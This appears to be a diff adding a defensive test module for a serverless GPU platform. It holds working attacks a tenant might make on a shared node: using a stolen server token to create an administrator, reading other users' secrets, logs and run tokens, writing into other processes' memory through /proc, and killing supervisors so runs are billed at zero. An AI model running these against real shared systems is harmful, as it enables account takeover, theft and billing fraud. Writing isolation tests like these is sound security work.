@@ -1,0 +1,164 @@
+"""Attacks of a member of the team on the node and on other users: the list in "Why" of issue 27.
+
+The functions travel with their code, because a sandbox shows no directory of these tests. They import what they use,
+and need nothing of this package. They therefore also run with earlier versions of serverless-gpu. Their outcomes at
+6f51c1b, the last version before any isolation, through a server whose runs share a uid:
+
+    administrator-token    succeeded: the token of the member's run made a second administrator
+    other-secret           succeeded: the file in /dev/shm was readable
+    other-log              succeeded
+    attempt-token          succeeded
+    patch-zygote           succeeded: the next runs of the other user had the changed bytes in their interpreter
+    end-supervisor         succeeded: the run ended as `supervisor_lost`, billed with 0.0 GPU seconds
+"""
+
+from __future__ import annotations
+
+ADMINISTRATOR, SECRET, LOG, TOKEN, ZYGOTE, SUPERVISOR = (
+    "administrator-token",
+    "other-secret",
+    "other-log",
+    "attempt-token",
+    "patch-zygote",
+    "end-supervisor",
+)
+ATTACKS = (ADMINISTRATOR, SECRET, LOG, TOKEN, ZYGOTE, SUPERVISOR)
+"""Names of the attacks, as in the catalogue of `sgpu node canary`."""
+OUTPUT, VALUE, PATCH = "output of the victim", "hunter2-hunter2", "PATCHED"
+SUCCEEDED = "succeeded"
+
+
+def be_victim(waits: bool = True) -> str:
+    """Print a line and wait, with a secret. Return the start of `sys.copyright` of this interpreter."""
+    import sys
+    import time
+
+    print("output of the victim", flush=True)
+    if waits:
+        time.sleep(100)
+    return sys.copyright[:7]
+
+
+def attack(home: str, new_administrator: str) -> dict[str, str]:
+    """Try the attacks on a node with a home. Return ``succeeded`` or the reason of the failure, by attack.
+
+    Each attack uses what it reads: the token makes a second administrator, and the memory of each warm interpreter is
+    changed. Only the attack on the own supervisor is a function of its own.
+    """
+    import glob
+    import json
+    import re
+    import sys
+    import urllib.request
+
+    def contents(*patterns: str) -> list[bytes]:
+        found: list[bytes] = []
+        last: OSError = FileNotFoundError(f"no file {patterns[0]}")
+        for pattern in patterns:
+            for path in glob.glob(pattern):
+                try:
+                    with open(path, "rb") as file:
+                        found.append(file.read(1 << 20))
+                except OSError as error:
+                    last = error
+        if not found:
+            raise last
+        return found
+
+    def make_administrator() -> None:
+        profile = json.loads(contents(f"{home}/server.json")[0])
+        token = contents(f"{home}/server/token")[0].decode().strip()
+        body = json.dumps({"name": new_administrator, "role": "admin"}).encode()
+        headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
+        urllib.request.urlopen(
+            urllib.request.Request(f"{profile['url']}/api/v1/users", body, headers), timeout=10
+        ).close()
+
+    def read_secret() -> None:
+        places = (f"{home}/runs/*/*/secrets/*", "/proc/[0-9]*/root/run/sgpu/secrets/*")
+        found = contents("/dev/shm/sgpu-secrets-*/*", *places)
+        if not any(b"hunter2-hunter2" in each for each in found):
+            raise LookupError("no file has the value")
+
+    def read_log() -> None:
+        if not any(b"output of the victim" in each for each in contents(f"{home}/runs/*/*/logs/*")):
+            raise LookupError("no file has the output")
+
+    def read_token() -> None:
+        records = [json.loads(each) for each in contents(f"{home}/runs/*/*/remote.json")]
+        if not any(each["owner"] == "victim" and each["token"] for each in records):
+            raise LookupError("no file has the token")
+
+    def patch(pid: str) -> None:
+        text = sys.copyright.encode()
+        with (
+            open(f"/proc/{pid}/maps", encoding="utf-8") as maps,
+            open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory,
+        ):
+            for line in maps:
+                place = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
+                if place is None:
+                    continue
+                first, end = (int(each, 16) for each in place.groups())
+                try:
+                    memory.seek(first)
+                    part = memory.read(min(end - first, 1 << 28))
+                except (OSError, OverflowError, ValueError):
+                    continue
+                for match in re.finditer(re.escape(text), part):
+                    memory.seek(first + match.start())
+                    memory.write(b"PATCHED")
+
+    def patch_zygotes() -> None:
+        patched, last = 0, ProcessLookupError("no warm interpreter is visible")
+        for path in glob.glob("/proc/[0-9]*/comm"):
+            pid = path.split("/")[2]
+            try:
+                with open(path, encoding="utf-8") as file:
+                    if file.read().strip() != "sgpu-zygote":
+                        continue
+                patch(pid)
+                patched += 1
+            except OSError as error:
+                last = error
+        if not patched:
+            raise last
+
+    outcomes: dict[str, str] = {}
+    for name, attempt in (
+        ("administrator-token", make_administrator),
+        ("other-secret", read_secret),
+        ("other-log", read_log),
+        ("attempt-token", read_token),
+        ("patch-zygote", patch_zygotes),
+    ):
+        try:
+            attempt()
+        except Exception as error:  # noqa: BLE001 - a refusal has many kinds
+            outcomes[name] = f"{type(error).__name__}: {error}"
+        else:
+            outcomes[name] = "succeeded"
+    return outcomes
+
+
+def end_supervisor() -> str:
+    """Kill each supervisor of the node that this process can find, also the own one. Return why that failed."""
+    import glob
+    import os
+    import signal
+    import time
+
+    killed, problem = 0, "no supervisor is visible"
+    for path in glob.glob("/proc/[0-9]*/comm"):
+        try:
+            with open(path, encoding="utf-8") as file:
+                name = file.read().strip()
+            if name == "sgpu-supervisor":
+                os.kill(int(path.split("/")[2]), signal.SIGKILL)
+                killed += 1
+        except OSError as error:
+            problem = f"{type(error).__name__}: {error}"
+    if not killed:
+        return problem
+    time.sleep(30)  # The supervisor's end ends this run first.
+    return "succeeded"
